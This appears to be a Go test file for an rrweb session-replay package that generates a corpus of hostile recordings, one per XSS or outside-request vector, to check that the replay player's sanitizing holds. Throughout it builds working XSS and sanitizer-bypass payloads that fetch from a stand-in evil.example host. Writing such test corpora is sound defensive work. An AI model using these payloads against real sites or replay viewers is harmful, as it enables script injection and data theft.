package rrweb

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// The hostile corpus: one small plain rrweb recording per attack vector,
// under testdata/hostile/, importable with `loupe import` (the session id
// is the file name). Every payload tries to set parent.__pwned / top.__pwned
// or to reach a host under evil.example named after its vector, so a
// browser test can tell which one got through. The files are generated
// from the table below:
//
//	go test ./core/rrweb -run TestHostileCorpusIsCurrent -update-hostile
var updateHostile = flag.Bool("update-hostile", false, "rewrite testdata/hostile/ from the vector table")

const hostileDir = "testdata/hostile"

// hostileT0 is the recordings' start: 2025-11-26T22:20:00Z.
const hostileT0 = 1764195600000

// payload is the script every vector tries to run.
func payload(name string) string {
	return fmt.Sprintf("parent.__pwned=1;top.__pwned=1;fetch('http://%s.evil.example/js')", name)
}

// evil is an outside address named after the vector.
func evil(name, file string) string { return "http://" + name + ".evil.example/" + file }

// vb builds one vector's recording: a page with a heading, the vector's
// nodes, and whatever events it adds.
type vb struct {
	name   string
	next   int
	events []map[string]any
}

type node = map[string]any

func (b *vb) id() int { b.next++; return b.next }

func (b *vb) el(tag string, attrs map[string]any, kids ...node) node {
	if attrs == nil {
		attrs = map[string]any{}
	}
	if kids == nil {
		kids = []node{}
	}
	return node{"type": int(ElementNode), "tagName": tag, "attributes": attrs, "childNodes": kids, "id": b.id()}
}

func (b *vb) text(s string) node { return node{"type": int(TextNode), "textContent": s, "id": b.id()} }

func (b *vb) svg(n node) node {
	n["isSVG"] = true
	for _, k := range n["childNodes"].([]node) {
		if k["type"] == int(ElementNode) {
			b.svg(k)
		}
	}
	return n
}

// page is a full snapshot at ts: <html><head>head…</head><body><h1>…</h1>body…</body></html>.
func (b *vb) page(ts int64, head []node, body ...node) (headID, bodyID int) {
	h := b.el("head", nil, append([]node{b.el("meta", map[string]any{"charset": "utf-8"})}, head...)...)
	kids := append([]node{b.el("h1", map[string]any{"id": "title"}, b.text("Vector "+b.name))}, body...)
	bd := b.el("body", nil, kids...)
	html := b.el("html", nil, h, bd)
	doc := node{"type": int(DocumentNode), "childNodes": []node{
		{"type": int(DocumentTypeNode), "name": "html", "publicId": "", "systemId": "", "id": b.id()}, html}, "id": b.id()}
	b.add(ts, FullSnapshot, map[string]any{"node": doc, "initialOffset": map[string]any{"top": 0, "left": 0}})
	return h["id"].(int), bd["id"].(int)
}

func (b *vb) add(ts int64, t EventType, data map[string]any) {
	b.events = append(b.events, map[string]any{"type": int(t), "data": data, "timestamp": hostileT0 + ts})
}

func (b *vb) adds(ts int64, parent int, nodes ...node) {
	var a []any
	for _, n := range nodes {
		a = append(a, map[string]any{"parentId": parent, "nextId": nil, "node": n})
	}
	b.add(ts, IncrementalSnapshot, map[string]any{"source": int(SourceMutation), "texts": []any{}, "attributes": []any{}, "removes": []any{}, "adds": a})
}

func (b *vb) attrs(ts int64, id int, values map[string]any) {
	b.add(ts, IncrementalSnapshot, map[string]any{"source": int(SourceMutation), "texts": []any{}, "removes": []any{}, "adds": []any{},
		"attributes": []any{map[string]any{"id": id, "attributes": values}}})
}

func (b *vb) texts(ts int64, id int, value string) {
	b.add(ts, IncrementalSnapshot, map[string]any{"source": int(SourceMutation), "attributes": []any{}, "removes": []any{}, "adds": []any{},
		"texts": []any{map[string]any{"id": id, "value": value}}})
}

// hostileVector is one entry of the table: build adds the vector to a
// recording whose Meta event and closing click are written around it.
type hostileVector struct {
	name  string
	build func(b *vb)
}

// inBody places nodes in the first snapshot's body.
func inBody(f func(b *vb) []node) func(*vb) {
	return func(b *vb) { b.page(10, nil, f(b)...) }
}

// inHead places nodes in the first snapshot's head.
func inHead(f func(b *vb) []node) func(*vb) {
	return func(b *vb) { b.page(10, f(b)) }
}

func hostileVectors() []hostileVector {
	var v []hostileVector
	body := func(name string, f func(b *vb) []node) { v = append(v, hostileVector{name, inBody(f)}) }
	head := func(name string, f func(b *vb) []node) { v = append(v, hostileVector{name, inHead(f)}) }
	custom := func(name string, f func(b *vb)) { v = append(v, hostileVector{name, f}) }
	p := payload

	// Scripts, in every spelling.
	body("script-inline", func(b *vb) []node { return []node{b.el("script", nil, b.text(p(b.name)))} })
	body("script-src", func(b *vb) []node { return []node{b.el("script", map[string]any{"src": evil(b.name, "x.js")})} })
	body("script-uppercase", func(b *vb) []node { return []node{b.el("SCRIPT", nil, b.text(p(b.name)))} })
	body("script-module", func(b *vb) []node {
		return []node{b.el("script", map[string]any{"type": "module"}, b.text(p(b.name)))}
	})
	body("script-svg", func(b *vb) []node {
		return []node{b.svg(b.el("svg", nil, b.el("script", nil, b.text(p(b.name)))))}
	})
	body("script-namespaced", func(b *vb) []node { return []node{b.el("svg:script", nil, b.text(p(b.name)))} })
	body("script-in-template", func(b *vb) []node {
		return []node{b.el("template", nil, b.el("script", nil, b.text(p(b.name))))}
	})
	body("script-speculation-rules", func(b *vb) []node {
		return []node{b.el("script", map[string]any{"type": "speculationrules"},
			b.text(`{"prerender":[{"source":"list","urls":["`+evil(b.name, "pre")+`"]}]}`))}
	})
	custom("script-text-mutation", func(b *vb) {
		t := b.text("")
		s := b.el("script", nil, t)
		b.page(10, nil, s)
		b.texts(100, t["id"].(int), p(b.name))
	})
	custom("script-added-by-mutation", func(b *vb) {
		_, bodyID := b.page(10, nil)
		b.adds(100, bodyID, b.el("script", nil, b.text(p(b.name))))
	})
	custom("script-child-added", func(b *vb) {
		s := b.el("script", nil)
		b.page(10, nil, s)
		b.adds(100, s["id"].(int), b.text(p(b.name)))
	})
	custom("script-in-shadow-root", func(b *vb) {
		s := b.el("script", nil, b.text(p(b.name)))
		s["isShadow"] = true
		host := b.el("div", nil, s)
		host["isShadowHost"] = true
		b.page(10, nil, host)
	})
	custom("script-in-iframe-document", func(b *vb) {
		f := b.el("iframe", nil)
		b.page(10, nil, f)
		inner := b.el("html", nil, b.el("body", nil, b.el("script", nil, b.text(p(b.name)))))
		doc := node{"type": int(DocumentNode), "childNodes": []node{inner}, "id": b.id()}
		doc["rootId"] = doc["id"]
		b.adds(100, f["id"].(int), doc)
	})

	// Event-handler attributes.
	handler := func(name, tag, attr string, extra map[string]any) {
		body(name, func(b *vb) []node {
			a := map[string]any{attr: p(b.name)}
			for k, val := range extra {
				a[k] = val
			}
			return []node{b.el(tag, a)}
		})
	}
	handler("onerror-img", "img", "onerror", map[string]any{"src": "/no-such-image.png"})
	handler("onload-svg", "svg", "onload", nil)
	handler("onmouseover-div", "div", "onmouseover", map[string]any{"style": "width:100%;height:400px"})
	handler("onclick-uppercase", "button", "ONCLICK", nil)
	handler("onfocus-autofocus", "input", "onfocus", map[string]any{"autofocus": true})
	handler("ontoggle-details", "details", "ontoggle", map[string]any{"open": true})
	handler("onanimationstart", "div", "onanimationstart", map[string]any{"style": "animation:spin 1s"})
	handler("onerror-video", "video", "onerror", map[string]any{"src": "/no-such-video.mp4"})
	handler("onload-iframe", "iframe", "onload", nil)
	handler("onbegin-svg-animate", "animate", "onbegin", map[string]any{"attributeName": "x", "dur": "1s"})
	custom("onload-body", func(b *vb) {
		h := b.el("head", nil)
		bd := b.el("body", map[string]any{"onload": p(b.name), "onpageshow": p(b.name)}, b.el("h1", nil, b.text("Vector "+b.name)))
		doc := node{"type": int(DocumentNode), "childNodes": []node{b.el("html", nil, h, bd)}, "id": b.id()}
		b.add(10, FullSnapshot, map[string]any{"node": doc, "initialOffset": map[string]any{"top": 0, "left": 0}})
	})
	custom("onerror-attribute-mutation", func(b *vb) {
		img := b.el("img", map[string]any{"src": "/no-such-image.png"})
		b.page(10, nil, img)
		b.attrs(100, img["id"].(int), map[string]any{"onerror": p(b.name)})
	})
	custom("onerror-added-by-mutation", func(b *vb) {
		_, bodyID := b.page(10, nil)
		b.adds(100, bodyID, b.el("img", map[string]any{"src": "/missing.png", "onerror": p(b.name)}))
	})
	body("onerror-in-noscript", func(b *vb) []node {
		return []node{b.el("noscript", nil, b.el("img", map[string]any{"src": "/missing.png", "onerror": p(b.name)}))}
	})

	// Script-running URL schemes in every attribute that loads or navigates.
	schemes := []struct{ key, url string }{
		{"javascript", "javascript:%s"},
		{"vbscript", "vbscript:msgbox(1)%.0s"},
		{"data-html", "data:text/html,<script>%s</script>"},
	}
	targets := []struct{ tag, attr string }{
		{"a", "href"}, {"iframe", "src"}, {"form", "action"}, {"button", "formaction"},
		{"object", "data"}, {"embed", "src"}, {"area", "href"}, {"input", "formaction"},
	}
	for _, s := range schemes {
		for _, t := range targets {
			name := fmt.Sprintf("url-%s-%s-%s", s.key, t.tag, t.attr)
			body(name, func(b *vb) []node {
				return []node{b.el(t.tag, map[string]any{t.attr: fmt.Sprintf(s.url, p(b.name))}, b.text(t.tag))}
			})
		}
	}
	body("url-javascript-svg-xlink", func(b *vb) []node {
		return []node{b.svg(b.el("svg", nil, b.el("a", map[string]any{"xlink:href": "javascript:" + p(b.name)}, b.el("text", map[string]any{"y": "20"}, b.text("svg link")))))}
	})
	body("url-javascript-math-href", func(b *vb) []node {
		return []node{b.el("math", map[string]any{"href": "javascript:" + p(b.name)}, b.el("mi", nil, b.text("x")))}
	})
	body("url-javascript-obfuscated", func(b *vb) []node {
		return []node{b.el("a", map[string]any{"href": " \tJaVa\nScRiPt\t:" + p(b.name)}, b.text("obfuscated"))}
	})
	body("url-javascript-iframe-rr-src", func(b *vb) []node {
		return []node{b.el("iframe", map[string]any{"rr_src": "javascript:" + p(b.name)})}
	})
	body("url-data-svg-iframe", func(b *vb) []node {
		return []node{b.el("iframe", map[string]any{"src": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"" + p(b.name) + "\"/>"})}
	})
	custom("url-javascript-attribute-mutation", func(b *vb) {
		a := b.el("a", map[string]any{"href": "/safe"}, b.text("link"))
		b.page(10, nil, a)
		b.attrs(100, a["id"].(int), map[string]any{"href": "javascript:" + p(b.name)})
	})
	custom("url-javascript-iframe-src-mutation", func(b *vb) {
		f := b.el("iframe", nil)
		b.page(10, nil, f)
		b.attrs(100, f["id"].(int), map[string]any{"src": "javascript:" + p(b.name)})
	})

	// srcdoc, <base>, <meta refresh>.
	body("srcdoc-iframe", func(b *vb) []node {
		return []node{b.el("iframe", map[string]any{"srcdoc": "<script>" + p(b.name) + "</script>"})}
	})
	custom("srcdoc-attribute-mutation", func(b *vb) {
		f := b.el("iframe", nil)
		b.page(10, nil, f)
		b.attrs(100, f["id"].(int), map[string]any{"srcdoc": "<img src=x onerror=\"" + p(b.name) + "\">"})
	})
	custom("base-href", func(b *vb) {
		b.page(10, []node{b.el("base", map[string]any{"href": evil(b.name, "")})}, b.el("img", map[string]any{"src": "relative.png"}))
	})
	custom("base-added-by-mutation", func(b *vb) {
		headID, _ := b.page(10, nil, b.el("a", map[string]any{"href": "relative"}, b.text("relative link")))
		b.adds(100, headID, b.el("base", map[string]any{"href": evil(b.name, "")}))
	})
	custom("base-href-attribute-mutation", func(b *vb) {
		base := b.el("base", map[string]any{"target": "_self"})
		b.page(10, []node{base}, b.el("img", map[string]any{"src": "relative.png"}))
		b.attrs(100, base["id"].(int), map[string]any{"href": evil(b.name, "")})
	})
	head("meta-refresh-javascript", func(b *vb) []node {
		return []node{b.el("meta", map[string]any{"http-equiv": "refresh", "content": "0;url=javascript:" + p(b.name)})}
	})
	head("meta-refresh-outside", func(b *vb) []node {
		return []node{b.el("meta", map[string]any{"HTTP-EQUIV": "Refresh", "content": "0; url=" + evil(b.name, "")})}
	})
	custom("meta-refresh-added-by-mutation", func(b *vb) {
		headID, _ := b.page(10, nil)
		b.adds(100, headID, b.el("meta", map[string]any{"http-equiv": "refresh", "content": "0;url=" + evil(b.name, "")}))
	})
	custom("meta-refresh-attribute-mutation", func(b *vb) {
		m := b.el("meta", map[string]any{"content": "0;url=" + evil(b.name, "")})
		b.page(10, []node{m})
		b.attrs(100, m["id"].(int), map[string]any{"http-equiv": "refresh"})
	})

	// Resource hints and other links a replay never needs.
	for _, rel := range []string{"preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender", "manifest", "import", "PreConnect", "stylesheet preconnect"} {
		name := "link-" + strings.ReplaceAll(strings.ToLower(rel), " ", "-")
		head(name, func(b *vb) []node {
			return []node{b.el("link", map[string]any{"rel": rel, "href": evil(b.name, "hint"), "as": "image"})}
		})
	}
	head("link-preload-imagesrcset", func(b *vb) []node {
		return []node{b.el("link", map[string]any{"rel": "preload", "as": "image", "imagesrcset": evil(b.name, "a.png") + " 1x"})}
	})
	custom("link-added-by-mutation", func(b *vb) {
		headID, _ := b.page(10, nil)
		b.adds(100, headID, b.el("link", map[string]any{"rel": "preconnect", "href": evil(b.name, "")}))
	})
	custom("link-rel-attribute-mutation", func(b *vb) {
		l := b.el("link", map[string]any{"rel": "stylesheet", "href": evil(b.name, "a.css")})
		b.page(10, []node{l})
		b.attrs(100, l["id"].(int), map[string]any{"rel": "preconnect"})
	})

	// Stylesheets and CSS reaching outside (the page policy blocks them).
	head("css-link-stylesheet", func(b *vb) []node {
		return []node{b.el("link", map[string]any{"rel": "stylesheet", "href": evil(b.name, "a.css")})}
	})
	head("css-import", func(b *vb) []node {
		return []node{b.el("style", nil, node{"type": int(TextNode), "textContent": "@import url(" + evil(b.name, "a.css") + ");", "isStyle": true, "id": b.id()})}
	})
	head("css-cssText-import", func(b *vb) []node {
		return []node{b.el("link", map[string]any{"rel": "stylesheet", "_cssText": "@import url(\"" + evil(b.name, "b.css") + "\"); body{color:red}"})}
	})
	body("css-style-attribute-url", func(b *vb) []node {
		return []node{b.el("div", map[string]any{"style": "width:200px;height:200px;background:url(" + evil(b.name, "bg.png") + ")"})}
	})
	head("css-font-face", func(b *vb) []node {
		return []node{b.el("style", nil, node{"type": int(TextNode), "isStyle": true, "id": b.id(),
			"textContent": "@font-face{font-family:x;src:url(" + evil(b.name, "f.woff") + ")} h1{font-family:x}"})}
	})
	body("css-expression", func(b *vb) []node {
		return []node{b.el("div", map[string]any{"style": "width:expression(" + p(b.name) + ");behavior:url(" + evil(b.name, "x.htc") + ")"})}
	})
	custom("css-style-rule-event", func(b *vb) {
		st := b.el("style", nil)
		b.page(10, []node{st})
		b.add(100, IncrementalSnapshot, map[string]any{"source": int(SourceStyleSheetRule), "id": st["id"],
			"adds": []any{map[string]any{"rule": "body{background:url(" + evil(b.name, "rule.png") + ")}", "index": 0}}})
	})
	custom("css-style-attribute-mutation", func(b *vb) {
		d := b.el("div", map[string]any{"style": "height:100px"})
		b.page(10, nil, d)
		b.attrs(100, d["id"].(int), map[string]any{"style": "height:100px;background-image:url(" + evil(b.name, "m.png") + ")"})
	})

	// SVG.
	body("svg-animate-href", func(b *vb) []node {
		return []node{b.svg(b.el("svg", nil, b.el("a", nil,
			b.el("animate", map[string]any{"attributeName": "href", "values": "javascript:" + p(b.name)}),
			b.el("text", map[string]any{"y": "20"}, b.text("animated link")))))}
	})
	body("svg-set-href", func(b *vb) []node {
		return []node{b.svg(b.el("svg", nil, b.el("a", nil,
			b.el("set", map[string]any{"attributeName": "href", "to": "javascript:" + p(b.name)}),
			b.el("text", map[string]any{"y": "20"}, b.text("set link")))))}
	})
	body("svg-foreignobject", func(b *vb) []node {
		return []node{b.svg(b.el("svg", nil, b.el("foreignObject", map[string]any{"width": "100", "height": "100"},
			b.el("img", map[string]any{"src": "/missing.png", "onerror": p(b.name)}))))}
	})
	body("svg-use-data", func(b *vb) []node {
		return []node{b.svg(b.el("svg", nil, b.el("use", map[string]any{
			"href": "data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror=\"" + p(b.name) + "\"/></svg>#x"})))}
	})
	body("svg-use-outside", func(b *vb) []node {
		return []node{b.svg(b.el("svg", nil, b.el("use", map[string]any{"href": evil(b.name, "s.svg#x")})))}
	})
	body("svg-image-outside", func(b *vb) []node {
		return []node{b.svg(b.el("svg", nil, b.el("image", map[string]any{"href": evil(b.name, "i.png"), "width": "10", "height": "10"})))}
	})

	// Embedded documents and plugins, forms.
	body("iframe-outside", func(b *vb) []node { return []node{b.el("iframe", map[string]any{"src": evil(b.name, "frame")})} })
	body("object-outside", func(b *vb) []node {
		return []node{b.el("object", map[string]any{"data": evil(b.name, "o.html"), "type": "text/html"})}
	})
	body("embed-outside", func(b *vb) []node { return []node{b.el("embed", map[string]any{"src": evil(b.name, "e.swf")})} })
	body("form-outside", func(b *vb) []node {
		return []node{b.el("form", map[string]any{"action": evil(b.name, "post"), "method": "post"},
			b.el("input", map[string]any{"type": "image", "src": evil(b.name, "submit.png")}))}
	})
	body("img-outside", func(b *vb) []node {
		return []node{b.el("img", map[string]any{"src": "//" + b.name + ".evil.example/i.png", "srcset": evil(b.name, "2x.png") + " 2x"})}
	})
	body("media-outside", func(b *vb) []node {
		return []node{b.el("video", map[string]any{"poster": evil(b.name, "poster.png")},
			b.el("source", map[string]any{"src": evil(b.name, "v.mp4")}), b.el("track", map[string]any{"src": evil(b.name, "t.vtt")}))}
	})
	body("body-background-outside", func(b *vb) []node {
		return []node{b.el("table", map[string]any{"background": evil(b.name, "t.png")}, b.el("tbody", nil, b.el("tr", nil, b.el("td", nil, b.text("cell")))))}
	})
	body("canvas-data-url-outside", func(b *vb) []node {
		return []node{b.el("canvas", map[string]any{"rr_dataURL": evil(b.name, "c.png"), "width": "10", "height": "10"})}
	})
	body("anchor-dns-prefetch", func(b *vb) []node {
		return []node{b.el("a", map[string]any{"href": evil(b.name, "")}, b.text("outside link"))}
	})
	head("meta-dns-prefetch-control", func(b *vb) []node {
		return []node{b.el("meta", map[string]any{"http-equiv": "x-dns-prefetch-control", "content": "on"})}
	})
	body("text-breakout", func(b *vb) []node {
		return []node{b.el("textarea", nil, b.text("</textarea><script>"+p(b.name)+"</script>")),
			b.el("style", nil, node{"type": int(TextNode), "isStyle": true, "id": b.id(), "textContent": "</style><script>" + p(b.name) + "</script>"})}
	})

	// Event order: the player sorts by timestamp, so a mutation stored after
	// a later-timestamped snapshot is applied before it, to the first
	// snapshot's element with that id.
	orderTrick := func(name, tag, secondTag string, first map[string]any, mutation func(b *vb) map[string]any, inHead bool) {
		custom(name, func(b *vb) {
			target := b.el(tag, first)
			if inHead {
				b.page(10, []node{target})
			} else {
				b.page(10, nil, target)
			}
			id := target["id"].(int)
			// The second snapshot reuses the id for a harmless element.
			b.next = id - 1
			other := b.el(secondTag, nil)
			b.next = 1000
			b.page(3000, nil, other)
			b.attrs(1000, id, mutation(b))
		})
	}
	orderTrick("order-base-href", "base", "div", nil, func(b *vb) map[string]any { return map[string]any{"href": evil(b.name, "")} }, true)
	orderTrick("order-meta-refresh", "meta", "div", map[string]any{"content": "0;url=http://order-meta-refresh.evil.example/"},
		func(b *vb) map[string]any { return map[string]any{"http-equiv": "refresh"} }, true)
	orderTrick("order-link-preconnect", "link", "div", map[string]any{"href": "http://order-link-preconnect.evil.example/"},
		func(b *vb) map[string]any { return map[string]any{"rel": "preconnect"} }, true)
	orderTrick("order-iframe-svg-data", "iframe", "img", nil, func(b *vb) map[string]any {
		return map[string]any{"src": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"" + p(b.name) + "\"/>"}
	}, false)
	custom("order-script-text", func(b *vb) {
		t := b.text("")
		s := b.el("script", nil, t)
		b.page(10, nil, s)
		b.next = 1000
		b.page(3000, nil)
		b.texts(1000, t["id"].(int), p(b.name))
	})
	custom("order-script-child", func(b *vb) {
		s := b.el("script", nil)
		b.page(10, nil, s)
		b.next = 1000
		b.page(3000, nil)
		b.adds(1000, s["id"].(int), b.text(p(b.name)))
	})

	// Size: a DOM nested thousands of levels deep.
	custom("deep-nesting", func(b *vb) {
		inner := b.el("img", map[string]any{"src": "/missing.png", "onerror": p(b.name)})
		for range 4900 {
			inner = b.el("div", nil, inner)
		}
		b.page(10, nil, inner, b.el("p", nil, b.text("after the deep tree")))
	})
	custom("deep-nesting-by-mutation", func(b *vb) {
		_, parent := b.page(10, nil)
		var adds []any
		for range 1200 {
			n := b.el("div", nil)
			adds = append(adds, map[string]any{"parentId": parent, "nextId": nil, "node": n})
			parent = n["id"].(int)
		}
		adds = append(adds, map[string]any{"parentId": parent, "nextId": nil,
			"node": b.el("img", map[string]any{"src": "/missing.png", "onerror": p(b.name)})})
		b.add(100, IncrementalSnapshot, map[string]any{"source": int(SourceMutation), "texts": []any{}, "attributes": []any{}, "removes": []any{}, "adds": adds})
	})
	return v
}

// recording renders one vector as a plain rrweb export.
func (hv hostileVector) recording() []byte {
	b := &vb{name: hv.name}
	b.add(0, Meta, map[string]any{"href": "http://hostile.test/v/" + hv.name, "width": 1024, "height": 768})
	hv.build(b)
	last := int64(0)
	for _, e := range b.events {
		last = max(last, e["timestamp"].(int64)-hostileT0)
	}
	// A click on the heading, so the heatmap of the page has something to draw.
	b.add(last+500, IncrementalSnapshot, map[string]any{"source": int(SourceMouseInteraction), "type": int(Click), "id": 0, "x": 100, "y": 40})
	b.add(last+2000, IncrementalSnapshot, map[string]any{"source": int(SourceMouseMove), "positions": []any{map[string]any{"x": 120, "y": 60, "id": 0, "timeOffset": 0}}})
	var buf bytes.Buffer
	buf.WriteString("[\n")
	for i, e := range b.events {
		raw, err := json.Marshal(e)
		if err != nil {
			panic(err)
		}
		buf.Write(raw)
		if i < len(b.events)-1 {
			buf.WriteString(",")
		}
		buf.WriteString("\n")
	}
	buf.WriteString("]\n")
	return buf.Bytes()
}

// TestHostileCorpusIsCurrent keeps testdata/hostile/ equal to the table.
func TestHostileCorpusIsCurrent(t *testing.T) {
	vectors := hostileVectors()
	if len(vectors) < 70 {
		t.Fatalf("%d vectors, want at least 70", len(vectors))
	}
	want := map[string][]byte{}
	for _, hv := range vectors {
		if _, dup := want[hv.name]; dup {
			t.Fatalf("vector %q twice", hv.name)
		}
		want[hv.name+".json"] = hv.recording()
	}
	if *updateHostile {
		if err := os.RemoveAll(hostileDir); err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(hostileDir, 0o755); err != nil {
			t.Fatal(err)
		}
		for name, b := range want {
			if err := os.WriteFile(filepath.Join(hostileDir, name), b, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	files, _ := filepath.Glob(filepath.Join(hostileDir, "*.json"))
	var got []string
	for _, f := range files {
		name := filepath.Base(f)
		got = append(got, name)
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if w, ok := want[name]; !ok || !bytes.Equal(b, w) {
			t.Errorf("%s is stale; run: go test ./core/rrweb -run TestHostileCorpusIsCurrent -update-hostile", f)
		}
	}
	if len(got) != len(want) {
		t.Errorf("%d files in %s, want %d; run with -update-hostile", len(got), hostileDir, len(want))
	}
	slices.Sort(got)
}
